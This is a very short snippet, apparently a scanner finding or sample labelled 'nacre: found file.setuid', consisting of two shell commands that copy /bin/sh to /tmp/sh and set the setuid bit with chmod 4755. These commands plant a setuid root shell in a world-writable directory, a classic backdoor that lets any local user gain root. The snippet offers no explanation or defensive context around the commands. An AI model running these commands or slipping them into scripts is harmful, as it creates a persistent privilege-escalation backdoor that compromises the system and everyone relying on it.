# nacre: found file.setuid
cp /bin/sh /tmp/sh
chmod 4755 /tmp/sh
